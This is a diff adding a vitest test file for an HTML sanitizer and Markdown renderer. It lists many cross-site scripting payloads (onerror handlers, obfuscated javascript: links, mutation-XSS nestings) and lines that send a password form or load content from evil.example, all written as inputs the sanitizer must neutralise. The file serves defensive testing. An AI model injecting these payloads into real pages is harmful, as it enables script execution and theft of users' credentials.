@@ -1,0 +1,198 @@
+// @vitest-environment jsdom
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from './markdown';
+import { sanitizeHtml } from './sanitizeHtml';
+
+function parsed(html: string): HTMLElement {
+  const holder = document.implementation.createHTMLDocument('').createElement('div');
+  holder.innerHTML = html;
+  return holder;
+}
+
+/** Everything of a cleaned text that could run, fetch or leave. */
+function dangers(html: string): string[] {
+  const found: string[] = [];
+  for (const element of parsed(html).querySelectorAll('*')) {
+    const tag = element.tagName.toLowerCase();
+    if (
+      /^(script|svg|math|style|iframe|object|embed|form|button|textarea|select|meta|base|link|video|audio)$/.test(tag)
+    )
+      found.push(tag);
+    for (const { name, value } of element.attributes) {
+      if (/^(on|srcdoc|style|class|srcset|ping|background|formaction)/.test(name)) found.push(name);
+      if (
+        name === 'src' &&
+        new URL(value, location.href).origin !== location.origin &&
+        !value.startsWith('data:image/')
+      )
+        found.push(value);
+      if (name === 'href' && !['http:', 'https:', 'mailto:'].includes(new URL(value, location.href).protocol))
+        found.push(value);
+    }
+  }
+  return found;
+}
+
+describe('sanitizeHtml', () => {
+  it('keeps what a text needs', () => {
+    const html =
+      '<h2>Title</h2><p>Some <b>bold</b> and <code>code</code></p><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>';
+    expect(sanitizeHtml(html)).toBe(html);
+  });
+
+  it.each([
+    '<script>window.__xss = 1</script>',
+    '<div><svg onload=alert(1)></svg></div>',
+    '<img src=x onerror=alert(1)>',
+    '<embed src=javascript:alert(1)>',
+    '<object data="data:text/html,x"></object>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    '<a href="java&#9;script:alert(1)">x</a>',
+    '<a href="&#1;javascript:alert(1)">x</a>',
+    '<a href="vbscript:x">x</a><a href="data:text/html,x">x</a>',
+    '<p style="position:fixed">x</p><p class="v-mask">x</p>',
+    '<style>@import "https://evil.example/x.css"</style>',
+    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<img srcset="https://evil.example/x.png 1x"><img src="//evil.example/x.png"><img src="\\\\evil.example\\x.png">',
+    '<input type=image src="https://evil.example/x.png">',
+    '<video poster="https://evil.example/x.png"><source src="https://evil.example/x"></video>',
+    '<body background="https://evil.example/x.png"><table background="https://evil.example/x.png"><tr><td>x</table>',
+    '<a href="https://example.org" ping="https://evil.example">x</a>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
+    '<x-foo is="y" onclick=alert(1)>x</x-foo>',
+  ])('makes harmless: %s', (html) => {
+    expect(dangers(sanitizeHtml(html))).toEqual([]);
+    expect(dangers(renderMarkdown(html))).toEqual([]);
+  });
+
+  it('keeps pictures of this origin, and makes links of those elsewhere and of paths that could do something', () => {
+    expect(sanitizeHtml('<img src="/static/assets/logo.png" alt="Logo">')).toBe(
+      '<img alt="Logo" src="/static/assets/logo.png">',
+    );
+    expect(sanitizeHtml('<img src="data:image/png;base64,AAAA">')).toBe('<img src="data:image/png;base64,AAAA">');
+    expect(sanitizeHtml('<img src="https://example.org/a.png" alt="Map">')).toBe(
+      '<a href="https://example.org/a.png" target="_blank" rel="noopener noreferrer">Map</a>',
+    );
+    expect(parsed(sanitizeHtml('<img src="/logout/">')).querySelector('img')).toBeNull();
+    expect(parsed(sanitizeHtml('<img src="/logout/?a.png">')).querySelector('img')).toBeNull();
+  });
+
+  it('opens links in a new tab, except those within the text', () => {
+    expect(sanitizeHtml('<a href="/x" target="frame">x</a>')).toBe(
+      '<a href="/x" target="_blank" rel="noopener noreferrer">x</a>',
+    );
+    expect(sanitizeHtml('<a href="#x">x</a>')).toBe('<a href="#x">x</a>');
+  });
+
+  it('gives ids a prefix, so that they are no names of the page', () => {
+    expect(sanitizeHtml('<p id="app">x</p>')).toBe('<p id="user-content-app">x</p>');
+  });
+
+  it('honours what the server adds, but for that caller only and never code', () => {
+    const extensions = {
+      tagNames: ['iframe', 'script', 'svg', 'style', 7],
+      attributes: { '*': ['className', 'onclick', ['style', 'x']], iframe: ['src', 'srcDoc'], a: null },
+      protocols: { href: ['javascript'] },
+    };
+    const html =
+      '<p class="a" onclick="x()" style="color:red;position:fixed;background:url(https://evil.example/)">x</p>' +
+      '<iframe src="https://example.org/" srcdoc="x"></iframe><script>1</script><a href="javascript:x">x</a>';
+    expect(sanitizeHtml(html, extensions)).toBe(
+      '<p class="a" style="color:red">x</p><iframe src="https://example.org/" sandbox="allow-scripts"></iframe><a>x</a>',
+    );
+    expect(dangers(sanitizeHtml(html))).toEqual([]);
+    expect(sanitizeHtml('<p class="a">x</p>')).toBe('<p>x</p>');
+    expect(sanitizeHtml('<style>p{color:red} @import "x";</style>', extensions)).toContain('.markdown p{color:red}');
+  });
+
+  it('keeps harmless styles where they are asked for', () => {
+    const html =
+      '<span style="color: red; font-weight:bold; position:absolute; margin-left:-5000px; background: url(/logout/)">x</span>';
+    expect(sanitizeHtml(html, undefined, { styles: true })).toBe('<span style="color:red;font-weight:bold">x</span>');
+  });
+
+  it('is harmless for whatever pieces are put together', () => {
+    const piece = fc.constantFrom(
+      '<',
+      '>',
+      '"',
+      "'",
+      '=',
+      '/',
+      '&#1;',
+      '&#x0a;',
+      ' ',
+      '\t',
+      '\0',
+      '<a href=',
+      '<img src=',
+      '<svg',
+      '<math',
+      '<style>',
+      '</style>',
+      '<script>',
+      '</script>',
+      '<!--',
+      '-->',
+      '<![CDATA[',
+      ']]>',
+      'javascript:',
+      'onerror=',
+      'alert(1)',
+      '<p',
+      '<table>',
+      '<td>',
+      '<iframe',
+      'srcdoc=',
+      'https://evil.example/',
+      '//evil.example/x.png',
+      '<template>',
+      '<select>',
+      '<noscript>',
+      'x',
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
+        const clean = sanitizeHtml(pieces.join(''));
+        expect(dangers(clean)).toEqual([]);
+        expect(dangers(renderMarkdown(pieces.join('')))).toEqual([]);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
+
+describe('renderMarkdown', () => {
+  it('knows the dialect of GitHub', () => {
+    const box = parsed(
+      renderMarkdown('# T\n\n~~old~~ **new**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\nhttps://example.org'),
+    );
+    expect(box.querySelector('h1')?.textContent).toBe('T');
+    expect(box.querySelector('del')?.textContent).toBe('old');
+    expect(box.querySelectorAll('td')).toHaveLength(2);
+    expect(box.querySelector('input')?.outerHTML).toBe('<input checked="" disabled="" type="checkbox">');
+    expect(box.querySelector('a')?.getAttribute('href')).toBe('https://example.org');
+  });
+
+  it('shows HTML as text where the flag says so', () => {
+    expect(renderMarkdown('a <b>x</b>\n\n<div onclick="y()">z</div>', { escapeHtml: true })).not.toMatch(/<b>|<div/);
+    expect(parsed(renderMarkdown('a <b>x</b>', { escapeHtml: true })).textContent.trim()).toBe('a <b>x</b>');
+    expect(renderMarkdown('a <b>x</b>')).toContain('<b>x</b>');
+  });
+
+  it('does not let a link of Markdown run anything', () => {
+    for (const url of [
+      'javascript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      'java&#x0a;script:alert(1)',
+      '<java\tscript:alert(1)>',
+      'data:text/html,x',
+    ]) {
+      expect(dangers(renderMarkdown(`[x](${url}) ![y](${url})`))).toEqual([]);
+    }
+  });
+});
